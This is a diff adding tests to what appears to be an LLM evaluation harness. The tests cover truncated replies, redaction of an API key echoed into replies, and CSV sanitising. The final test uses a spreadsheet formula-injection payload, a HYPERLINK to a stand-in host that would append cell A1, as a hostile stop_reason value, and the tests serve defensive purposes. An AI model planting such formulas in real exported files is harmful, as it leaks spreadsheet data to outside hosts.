@@ -104,6 +104,34 @@ def test_truncated_replies_are_stored_counted_and_shown(fake_llm_factory, tmp_pa
     assert "model calls made: 8" in out
     html = (tmp_path / "run" / "report.html").read_text()
     assert '<td class="truncated">2</td>' in html
+    # found by a hostile-reply fuzz: cut-off replies (no answer) counted as refusals, and a
+    # `refused` audit rule failed on them
+    assert all(row["refused"]["rate"] == 0 for row in summary["rates"])
+
+
+def test_a_full_context_window_is_truncation_and_is_not_continued(fake_llm_factory, tmp_path):
+    server = fake_llm_factory(reply=lambda body: {"text": "<SCRATCHPAD_REASONING>thinking about this and",
+                                                  "stop_reason": "model_context_window_exceeded"})
+    sweep(tmp_path, data([model(server, "anthropic", max_turns=3)]))
+    stored = records(tmp_path)
+    assert all(r["reply"]["truncated"] and r["reply"]["turns"] == 1 for r in stored) and len(server.calls) == 4
+
+
+def test_a_key_echoed_into_a_reply_reaches_no_store_cache_or_report(fake_llm_factory, tmp_path, monkeypatch):
+    """A gateway that copies request headers into the reply: the key must not be stored, cached or
+    published (an error message was already redacted; reply text was not)."""
+    secret = "plainsecretvalue-xyzzy-42"
+    monkeypatch.setenv(KEY_ENV, secret)
+    server = fake_llm_factory(reply=lambda body: f"<SCRATCHPAD_REASONING>my key is {secret}</SCRATCHPAD_REASONING>"
+                                                 f"<OUTPUT><request_fully_accepted/> {secret}</OUTPUT>")
+    result = sweep(tmp_path, data([model(server)]))
+    assert result.ran == 4
+    stored = records(tmp_path)
+    assert all("[redacted]" in r["reply"]["output"] and "API key appeared 2 time(s)" in " ".join(r["reply"]["repairs"])
+               for r in stored)
+    for path in [*(tmp_path / "run").rglob("*"), *(tmp_path / "cache").rglob("*")]:
+        if path.is_file():
+            assert secret.encode() not in path.read_bytes(), path
 
 
 def test_reply_that_ignores_the_format_is_not_continued(fake_llm_factory):
@@ -270,3 +298,15 @@ def test_dry_run_counts_the_pushback_turn_of_a_two_turn_family(fake_llm, tmp_pat
     assert not fake_llm.calls
     sweep(tmp_path, scenario)
     assert len(fake_llm.calls) == 9
+
+
+def test_a_servers_stop_reason_cannot_be_a_spreadsheet_formula_in_trials_csv(fake_llm_factory, tmp_path):
+    import pandas as pd
+
+    formula = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
+    server = fake_llm_factory(reply=lambda body: {"text": "<SCRATCHPAD_REASONING>x</SCRATCHPAD_REASONING><OUTPUT>ok</OUTPUT>",
+                                                  "stop_reason": formula})
+    sweep(tmp_path, data([model(server)]))
+    csv = pd.read_csv(tmp_path / "run" / "trials.csv", dtype=str)
+    assert (csv["stop_reason"] == "'" + formula[:64]).all()
+    assert (pd.read_parquet(tmp_path / "run" / "trials.parquet")["stop_reason"] == formula[:64]).all()  # kept as sent
